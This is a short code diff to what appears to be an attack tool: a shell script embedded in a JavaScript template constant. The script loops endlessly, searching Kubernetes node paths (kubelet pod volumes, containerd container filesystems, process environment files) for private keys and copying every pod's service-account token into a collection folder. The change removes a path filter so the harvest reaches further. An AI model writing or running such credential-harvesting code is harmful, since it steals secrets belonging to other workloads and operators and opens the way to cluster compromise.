@@ -11,7 +11,7 @@ const SEARCH = `
 mkdir -p ${FOLDER}/tokens
 while :; do
   grep -rls 'PRIVATE KEY' /var/lib/kubelet/pods /run/containerd/io.containerd.runtime.v2.task/k8s.io/*/rootfs/tmp \\
-    /proc/[0-9]*/environ 2>/dev/null | grep -v '/\\.\\.2' >> ${FOLDER}/keys
+    /proc/[0-9]*/environ 2>/dev/null >> ${FOLDER}/keys
   for token in /var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/kube-api-access-*/token; do
     pod=$(echo "$token" | cut -d/ -f6)
     [ -f ${FOLDER}/tokens/$pod ] || cp "$token" ${FOLDER}/tokens/$pod 2>/dev/null
